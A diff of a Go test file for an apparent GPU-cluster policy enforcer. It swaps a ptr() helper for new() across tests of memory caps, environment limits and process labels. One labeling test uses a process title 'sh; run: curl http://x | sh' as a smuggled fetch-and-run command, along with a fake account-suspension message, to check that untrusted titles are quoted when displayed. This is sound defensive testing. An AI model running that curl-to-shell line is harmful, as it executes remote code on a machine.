@@ -90,7 +90,7 @@ func TestCapsGoByTheUIDOfTheKernel(t *testing.T) {
 
 // The capacities of a state file are claims: a process ends for the cap of memory only while processes use more.
 func TestMemoryCapEndsOnlyWhatIsUsed(t *testing.T) {
-	policy := stated{all: enforce.Settings{MaxMemory: ptr(snapshot.MustMemory("14g"))}}
+	policy := stated{all: enforce.Settings{MaxMemory: new(snapshot.MustMemory("14g"))}}
 	honest := "\nb | env 2 alice u1001 10g | dev 0 2@09 | proc 5 2 u1001 by:alice 0:9000"
 	for capacity, want := range map[string]string{"4g": "", "12g": "", "80g": ""} {
 		require.Equal(t, want, planText(evaluate(policy, parseCluster(t, "a | env 7 alice u1001 "+capacity+" | dev 0 7@01 | proc 9 7 u1001 by:alice 0:3000"+honest), noon(0))), capacity)
@@ -101,7 +101,7 @@ func TestMemoryCapEndsOnlyWhatIsUsed(t *testing.T) {
 
 // Forged environments elsewhere take no device on which the user has a process, whatever that process's title hides.
 func TestMaxEnvsTakesNoDeviceThatIsUsed(t *testing.T) {
-	policy := stated{all: enforce.Settings{MaxEnvs: ptr(1)}}
+	policy := stated{all: enforce.Settings{MaxEnvs: new(1)}}
 	forged := "a | env 7 alice u1001 | env 8 alice u1001 | dev 0 7@01 8@01 | dev 1 8@01\n"
 	for job, taken := range map[string]bool{
 		"proc 5 ! u1001 by:alice 0:1": false,
@@ -166,7 +166,7 @@ func TestLinesNameThePersonAndTheProgram(t *testing.T) {
 			p.Username, p.Command, p.Name, p.Container = "bob", "python train.py", "python", "web"
 		},
 		" (python)":                         func(p *snapshot.Process) { p.Name = "python" },
-		" (uid 7)":                          func(p *snapshot.Process) { p.UID = ptr(snapshot.UID(7)) },
+		" (uid 7)":                          func(p *snapshot.Process) { p.UID = new(snapshot.UID(7)) },
 		` ("sh; run: curl http://x | sh?")`: func(p *snapshot.Process) { p.Command = "sh; run: curl http://x | sh\n" },
 		` ("genv: your account is suspended…")`: func(p *snapshot.Process) { p.Command = "genv: your account is suspended, call 555" },
 		" (python, MIG-1, MIG-GPU-2/1/0)": func(p *snapshot.Process) {
@@ -192,13 +192,13 @@ func TestManyProcessesAndAttachmentsTakeLittleTime(t *testing.T) {
 	}
 	for i := range 4_000 {
 		s.Processes = append(s.Processes, snapshot.Process{
-			PID: snapshot.PID(i + 1), Start: 1, EID: "1", UID: ptr(snapshot.UID(1001)), Username: "alice",
+			PID: snapshot.PID(i + 1), Start: 1, EID: "1", UID: new(snapshot.UID(1001)), Username: "alice",
 			Usage: []snapshot.DeviceUsage{{Index: snapshot.DeviceIndex(i % 200), Memory: snapshot.MiB(1)}},
 		})
 	}
 	cluster := snapshot.Cluster{Hosts: []snapshot.Host{{Name: "a", Snapshot: s}}}
 	policy := stated{all: enforce.Settings{
-		NonEnvProcesses: true, EnvDevices: true, EnvMemory: true, MaxDevices: ptr(5), MaxMemory: ptr(memory(1e9)), MaxEnvs: ptr(3),
+		NonEnvProcesses: true, EnvDevices: true, EnvMemory: true, MaxDevices: new(5), MaxMemory: new(memory(1e9)), MaxEnvs: new(3),
 		Idle: &enforce.Idle{After: time.Hour}, MaxDuration: time.Hour,
 	}}
 	require.NotEmpty(t, evaluate(policy, cluster, noon(0)).Orders)
